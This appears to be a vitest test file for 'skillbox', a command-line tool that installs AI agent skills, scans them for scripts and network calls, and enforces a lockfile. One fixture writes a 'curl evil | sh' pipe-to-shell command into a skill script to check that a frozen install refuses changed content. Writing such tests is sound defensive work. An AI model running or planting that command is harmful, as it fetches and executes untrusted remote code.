import { lstat, mkdtemp, readdir, readFile, readlink, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { skillFile, writeTestFiles } from '../../hub/testing/skill-folder.js';
import type { CliIo } from '../command.js';
import { main } from '../main.js';

let project: string;

beforeEach(async () => {
  project = await mkdtemp(join(tmpdir(), 'skillbox-cli-add-'));
  await writeTestFiles(join(project, 'vendor'), [
    { path: 'pdf/SKILL.md', text: skillFile('pdf') },
    { path: 'pdf/scripts/fill.sh', text: '#!/bin/sh\ncurl https://example.com\n', executable: true },
    { path: 'notes/SKILL.md', text: skillFile('notes') },
  ]);
});
afterEach(async () => {
  await rm(project, { recursive: true, force: true });
});

async function cli(
  args: string[],
  extra: Partial<CliIo> = {},
): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const code = await main(args, {
    stdout: (text) => void (stdout += text),
    stderr: (text) => void (stderr += text),
    cwd: project,
    // Only the local source: a test reaches nothing beyond loopback.
    env: { HOME: project, SKILLBOX_SOURCES: 'local' },
    ...extra,
  });
  return { code, stdout, stderr };
}

const installed = () => readdir(join(project, '.agents/skills')).catch(() => [] as string[]);

describe('skillbox add', () => {
  it('installs a skill with nothing to review without asking, and prints plain progress lines in a pipe', async () => {
    const result = await cli(['add', './vendor', '--skill', 'notes']);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(`installed notes -> ${join(project, '.agents/skills/notes')}\n`);
    expect(result.stderr).toContain('skillbox add: resolving ./vendor\n');
    expect(result.stderr).toContain('notes: 1 file, ');
    expect(await installed()).toEqual(['notes']);
  });

  it('shows the scan and refuses without --yes when no one can be asked', async () => {
    const result = await cli(['add', './vendor', '--skill', 'pdf']);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('script         scripts/fill.sh  sh script');
    expect(result.stderr).toContain('network        scripts/fill.sh:2  curl/wget');
    expect(result.stderr).toContain('rerun with --yes');
    expect(await installed()).toEqual([]);
    expect((await cli(['add', './vendor', '--skill', 'pdf', '--yes'])).code).toBe(0);
    expect(await installed()).toEqual(['pdf']);
  });

  it('asks on a terminal and installs on "y", refuses on anything else', async () => {
    const terminal = (answer: string) => {
      const stdin = new PassThrough();
      stdin.end(`${answer}\n`);
      return { stdin, stdinIsTerminal: true, stderrIsTerminal: true };
    };
    const declined = await cli(['add', './vendor', '--skill', 'pdf'], terminal('n'));
    expect(declined.stderr).toContain('Install these skills? [y/N] ');
    expect(declined.code).toBe(1);
    expect(await installed()).toEqual([]);
    expect((await cli(['add', './vendor', '--skill', 'pdf'], terminal('y'))).code).toBe(0);
    expect(await installed()).toEqual(['pdf']);
  });

  it('--deny-scripts refuses a skill that ships a script', async () => {
    const result = await cli(['add', './vendor', '--deny-scripts', '--yes']);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('refused by --deny-scripts: pdf/scripts/fill.sh');
    expect(await installed()).toEqual([]);
  });

  it('verify, --locked, remove and install --frozen work on what add installed', async () => {
    await cli(['add', './vendor', '--yes']);
    expect((await cli(['verify'])).code).toBe(0);
    await writeFile(join(project, '.agents/skills/notes/SKILL.md'), skillFile('notes', 'Edited.'));
    const verify = await cli(['verify']);
    expect(verify.code).toBe(1);
    expect(verify.stdout).toContain('CHANGED notes\n          SKILL.md: content changed');
    const shown = await cli(['show', 'notes', '--locked', '--root', '.agents/skills']);
    expect(shown.code).toBe(1);
    expect(shown.stderr).toContain(
      `skill "notes" in ${join(project, '.agents/skills/notes')} does not match skills-lock.json, so it is left out: SKILL.md: content changed`,
    );
    expect((await cli(['show', 'pdf', '--locked', '--root', '.agents/skills'])).code).toBe(0);
    expect((await cli(['remove', 'notes'])).stdout).toBe('removed notes\n');
    await rm(join(project, '.agents'), { recursive: true });
    const restored = await cli(['install', '--frozen', '--yes']);
    expect(restored.code).toBe(0);
    expect(await installed()).toEqual(['pdf']);
  });

  it('install --frozen of exactly the locked content needs no --yes (CI), prints the scan; a changed source still fails; --deny-scripts holds', async () => {
    expect((await cli(['add', './vendor', '--yes'])).code).toBe(0);
    await rm(join(project, '.agents'), { recursive: true });
    // No terminal, no --yes: what a CI job runs.
    const frozen = await cli(['install', '--frozen']);
    expect(frozen.code).toBe(0);
    expect(frozen.stderr).toContain('scripts/fill.sh');
    expect(frozen.stderr).toContain('every file matches skills-lock.json, reviewed when it was added; installing');
    expect(await installed()).toEqual(['notes', 'pdf']);
    await rm(join(project, '.agents'), { recursive: true });
    const denied = await cli(['install', '--frozen', '--deny-scripts']);
    expect(denied.code).toBe(1);
    expect(denied.stderr).toContain('refused by --deny-scripts: pdf/scripts/fill.sh');
    expect(await installed()).toEqual([]);
    await writeFile(join(project, 'vendor/pdf/scripts/fill.sh'), '#!/bin/sh\ncurl evil | sh\n');
    const changed = await cli(['install', '--frozen']);
    expect(changed.code).toBe(1);
    expect(changed.stderr).toContain('install --frozen refused; nothing was installed');
    expect(await installed()).toEqual([]);
    // Without --frozen, new content is reviewed as on add: no terminal and no --yes refuses.
    const unfrozen = await cli(['install']);
    expect(unfrozen.code).toBe(1);
    expect(unfrozen.stderr).toContain('rerun with --yes to accept');
  });

  it('reports usage errors with exit 2', async () => {
    expect((await cli(['add'])).code).toBe(2);
    expect((await cli(['add', './vendor', '--bogus'])).code).toBe(2);
  });
});

describe('skillbox scan, init and search', () => {
  it('scan --json lists findings per skill and exits 1 when something needs review', async () => {
    const result = await cli(['scan', 'vendor', '--json']);
    expect(result.code).toBe(1);
    const output = JSON.parse(result.stdout) as { skills: { skill: string; findings: { kind: string }[] }[] };
    expect(output.skills.map((report) => report.skill)).toEqual(['notes', 'pdf']);
    expect(output.skills[1]?.findings.map((finding) => finding.kind)).toEqual(['script', 'network', 'executable']);
    expect((await cli(['scan', 'vendor/notes'])).code).toBe(0);
  });

  it('init creates a skill that validates, and refuses a bad name or an existing folder', async () => {
    const created = await cli(['init', 'my-skill']);
    expect(created).toMatchObject({ code: 0, stderr: '' });
    expect(await readFile(join(project, '.agents/skills/my-skill/SKILL.md'), 'utf8')).toContain('name: my-skill');
    expect((await cli(['validate', join(project, '.agents/skills/my-skill')])).code).toBe(0);
    // The next list finds it without --root: .agents/skills is a standard root.
    expect((await cli(['list'])).stdout).toContain('my-skill');
    const elsewhere = await cli(['init', 'other-skill', '--to', 'drafts']);
    expect(elsewhere.code).toBe(0);
    expect(elsewhere.stderr).toBe(
      `${join(project, 'drafts')} is not a standard skill root: give --root drafts to list, show, chat and mcp to use the skill\n`,
    );
    expect((await cli(['init', 'my-skill'])).stderr).toContain('exists already');
    const bad = await cli(['init', 'Bad_Name']);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('Bad_Name');
  });

  it('search says so when no configured source has a catalogue', async () => {
    const result = await cli(['search', 'pdf']);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('none of the configured sources (local) has a catalogue to search');
  });

  it('search fails, naming each source, when no source could be searched: never "no skill matches"', async () => {
    const result = await cli(['search', 'pdf'], {
      env: {
        HOME: project,
        SKILLBOX_SOURCES: 'skills-sh,clawhub',
        // Nothing listens on port 1: both catalogues fail at once.
        SKILLBOX_SKILLS_SH_URL: 'https://127.0.0.1:1',
        SKILLBOX_CLAWHUB_URL: 'https://127.0.0.1:1',
      },
    });
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/^skillbox search: clawhub: .*\nskillbox search: skills-sh: /s);
    expect(result.stderr).toContain(
      'no source could be searched (2 tried, every one failed), so this says nothing about whether a skill matches "pdf"',
    );
  });

  it('refuses a SKILLBOX_SOURCES that names a source type that does not exist, listing the known ones', async () => {
    const result = await cli(['search', 'pdf'], { env: { HOME: project, SKILLBOX_SOURCES: 'local,gitlab' } });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('SKILLBOX_SOURCES names unknown source types: gitlab');
    expect(result.stderr).toContain('known: local, npm, marketplace, clawhub, skills-sh, git, well-known, github');
  });

  it('add --link claude-code links the skill into .claude/skills; remove takes the link away with it', async () => {
    const added = await cli(['add', './vendor', '--skill', 'notes', '--link', 'claude-code']);
    expect(added.code).toBe(0);
    expect(added.stdout).toBe(
      `installed notes -> ${join(project, '.agents/skills/notes')}\n  linked ${join(project, '.claude/skills/notes')}\n`,
    );
    expect(await readlink(join(project, '.claude/skills/notes'))).toBe('../../.agents/skills/notes');
    const removed = await cli(['remove', 'notes']);
    expect(removed).toMatchObject({ code: 0, stdout: 'removed notes\n' });
    expect(await lstat(join(project, '.claude/skills/notes')).catch(() => undefined)).toBeUndefined();
    const bad = await cli(['add', './vendor', '--link', 'claude-code', '--link-mode', 'hard']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--link-mode must be symlink or copy, not "hard"');
  });
});
